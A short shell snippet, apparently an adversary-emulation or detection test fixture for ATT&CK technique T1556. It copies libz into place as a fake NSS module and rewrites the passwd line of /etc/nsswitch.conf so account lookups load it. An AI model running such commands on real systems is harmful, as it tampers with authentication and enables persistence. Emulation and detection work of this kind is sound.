# technique: T1556
# location: linux.name-service
# source: /etc/nsswitch.conf
cp /usr/lib/x86_64-linux-gnu/libz.so.1 /usr/lib/x86_64-linux-gnu/libnss_cache9.so.2
sed -i 's/^passwd:.*/passwd: files cache9/' /etc/nsswitch.conf
